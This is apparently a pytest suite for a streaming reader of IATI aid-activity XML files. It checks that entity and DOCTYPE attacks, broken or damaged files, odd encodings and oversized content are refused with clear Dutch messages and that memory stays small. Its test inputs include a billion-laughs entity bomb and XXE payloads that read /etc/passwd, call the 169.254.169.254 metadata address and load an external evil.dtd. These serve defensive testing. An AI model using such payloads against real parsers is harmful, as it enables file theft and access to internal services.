"""Reading IATI files as a stream: attacks and broken files are refused in words, and memory stays small."""

import io
import tracemalloc

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from raadsportaal.basis.tables.files import BrokenFile
from samenwerking.iati.activity import Activity
from samenwerking.iati.reading import read
from samenwerking.iati.sectors import thema_of
from tests.samenwerking.iati import activity, document, narrative

BILLION = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 if n > 1 else str()};" * 10}">' for n in range(1, 10))
    + "]>"
)


def read_all(text):
    return list(read(io.BytesIO(text if isinstance(text, bytes) else text.encode()), Activity))


@pytest.mark.parametrize(
    "head",
    [
        BILLION,
        '<!DOCTYPE x [<!ENTITY geheim SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY buiten SYSTEM "http://169.254.169.254/latest/">]>',
        '<!DOCTYPE x [<!ENTITY % parameter SYSTEM "http://example.org/evil.dtd"> %parameter;]>',
        f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>',
        '<!DOCTYPE x SYSTEM "http://example.org/evil.dtd">',
        '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1.dtd">',
        "<!DOCTYPE x>",
    ],
)
def test_every_document_type_is_refused_with_a_clear_message(head):
    for title in ("Gewoon", "&lol9;"):
        with pytest.raises(BrokenFile, match=r"DOCTYPE of een entiteit\. Dat weigeren wij"):
            read_all(document(activity(title=title), head=head))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "Regel 1: dit is geen geldige XML"),
        ("geen xml", "Regel 1: dit is geen geldige XML"),
        (document(activity())[:-30], "Regel 1: dit is geen geldige XML"),
        (document(activity(title="&onbekend;")), "Regel 1: dit is geen geldige XML"),
        (document(activity(title="\x01")), "Regel 1: dit is geen geldige XML"),
        ("<iati-activities>\n<iati-activity>\n</iati-activities>", "Regel 3: dit is geen geldige XML"),
        (document().encode() + b"\xff", "Regel 1: dit is geen geldige XML"),
        ('<?xml version="1.0" encoding="klingon"?><a/>', "Regel 1|tekens van dit bestand"),
        ('<?xml version="1.0" encoding="utf-7"?><a/>', "Regel 1|tekens van dit bestand"),
        (
            '<iati-organisations version="2.03"/>',
            "geen IATI-bestand met activiteiten: het begint met ‘iati-organisations’",
        ),
        ("<html><body/></html>", "het begint met ‘html’"),
        (document(version="1.05"), "IATI-versie 1.05. Wij lezen 2.01, 2.02, 2.03"),
        (document("<a>" * 100 + "</a>" * 100), "meer dan 60 elementen in elkaar"),
        (document(activity(body=f'<title x="{"y" * 2_000_000}"/>')), "van meer dan 1 MB"),
        (document(f"<!--{'z' * 2_000_000}-->"), "van meer dan 1 MB"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_with_its_line(text, said):
    with pytest.raises(BrokenFile, match=said):
        read_all(text)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_the_encoding_of_the_file_is_followed(encoding):
    text = document(activity(title="Één près")).replace("UTF-8", encoding.removesuffix("-sig"))
    assert read_all(text.encode(encoding))[0].title == {"en": "Één près"}


@settings(max_examples=200, deadline=None)
@given(st.integers(0, 900), st.binary(max_size=12), st.integers(0, 40))
def test_a_damaged_file_is_read_or_refused_and_nothing_else(place, wild, lost):
    whole = document(activity(body=narrative("Één")), activity(2)).encode()
    try:
        read_all(whole[:place] + wild + whole[place + lost :])
    except BrokenFile as fault:
        assert str(fault)


def test_a_file_without_a_version_is_read():
    assert len(read_all(document(activity()).replace('version="2.03"', ""))) == 1


def test_comments_instructions_and_elements_of_others_are_passed_by():
    body = "<!-- <title/> --><?php echo 1 ?><akvo:photo xmlns:akvo='http://akvo.org/'><title>Nee</title></akvo:photo>"
    found = read_all(document(activity(body=body), "<title>los</title>"))
    assert [one.title for one in found] == [{"en": "Clean water"}]


def large(activities, length):
    """A file as a stream, without ever being whole in memory."""
    text = narrative("word " * (length // 5))
    one = activity("{}", f"<description>{text}</description>" + f"<result><indicator>{text}</indicator></result>" * 4)
    head, tail = document("|").split("|")
    yield head.encode()
    for n in range(activities):
        yield one.replace("{}", str(n)).encode()
    yield tail.encode()


class Stream(io.RawIOBase):
    def __init__(self, parts):
        self.parts, self.rest, self.size = parts, b"", 0

    def read(self, size=-1):
        while len(self.rest) < size and (part := next(self.parts, b"")):
            self.rest += part
        chunk, self.rest = self.rest[:size], self.rest[size:]
        self.size += len(chunk)
        return chunk


def test_memory_does_not_grow_with_the_file():
    tracemalloc.start()
    try:
        stream = Stream(large(400, 10_000))
        assert sum(1 for _ in read(stream, Activity)) == 400
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert stream.size > 20_000_000
    assert peak < 3_000_000


def test_one_huge_text_is_not_kept_in_memory():
    tracemalloc.start()
    try:
        parts = (part for part in [*document("|").encode().split(b"|")][:1])
        head = document(activity(body="|")).encode().split(b"|")
        parts = iter(
            [head[0], b"<description><narrative>", *[b"x" * 1_000_000] * 20, b"</narrative></description>", head[1]]
        )
        found = list(read(Stream(parts), Activity))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "is te groot" in found[0].fault[1]
    assert peak < 5_000_000


@pytest.mark.parametrize(
    ("vocabulary", "code", "thema"),
    [
        ("1", "14030", "water"), ("", "14050", "afval"), ("1", "12220", "gezondheid"), ("1", "23230", "energie"),
        ("1", "23642", "verkeer"), ("2", "231", "energie"), ("2", "152", "veiligheid"), ("1", "43010", ""),
        ("99", "14030", ""), ("1", "", ""), ("2", "140", ""), ("98", "152", ""),
    ],
)  # fmt: skip
def test_a_sector_has_a_thema_only_where_that_is_certain(vocabulary, code, thema):
    assert thema_of(vocabulary, code) == thema
